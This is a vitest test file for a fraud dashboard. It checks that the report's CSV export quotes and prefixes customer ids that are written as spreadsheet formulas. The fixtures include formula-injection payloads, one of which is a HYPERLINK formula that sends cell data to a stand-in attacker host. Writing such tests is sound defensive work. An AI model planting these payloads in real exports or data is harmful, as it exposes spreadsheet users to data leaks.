import { toCsv } from "@fraud/core/csv";
import { LocalLakeWriter, OutboxWorker } from "@fraud/core/local";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { openDashboard, type Dashboard } from "./support.ts";

vi.mock("server-only", () => ({}));
vi.mock("next/headers", async () => (await import("./support.ts")).nextHeaders);
vi.mock("next/cache", async () => (await import("./support.ts")).nextCache);
vi.mock("next-intl/server", async () => (await import("./support.ts")).nextIntl);

const { runReport } = await import("@/actions/analytics");

/* Customer ids an API client chose to be formulas: the report's CSV must open as text. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1;2)", "＝1+1"];

let d: Dashboard;
beforeAll(async () => {
  d = await openDashboard();
  for (const [i, user_id] of HOSTILE.entries()) {
    await d.platform.scoring.submit({ transaction_id: `csv-${i}`, user_id, amount: 1_000_000 + i, merchant_id: "m1" });
  }
  const lake = await LocalLakeWriter.open(d.platform.lakeDir);
  await new OutboxWorker(d.platform.db, lake, { lakeFlushSeconds: 0 }).drain();
  lake.close();
}, 60_000);
afterAll(() => d?.close());

describe("the report's CSV export", () => {
  it("writes every hostile customer id as quoted text with a leading quote, and the amounts as numbers", async () => {
    for (const role of ["viewer", "analyst"] as const) {
      await d.signInAs(role);
      const form = new FormData();
      form.set("report", "top_customers");
      form.set("param.from", "today-1");
      form.set("param.to", "today");
      const state = await runReport({ status: "idle" }, form);
      expect(state.status).toBe("ok");
      const out = state.data!;
      const lines = toCsv(
        out.columns.map((c) => c.name),
        out.rows,
      ).split("\r\n");
      for (const [i, id] of HOSTILE.entries()) {
        const line = lines.find((l) => l.endsWith(`,1,${1_000_000 + i}`));
        expect(line, `${role}: ${id}`).toBe(`"'${id.replaceAll('"', '""')}",1,${1_000_000 + i}`);
      }
    }
  });
});
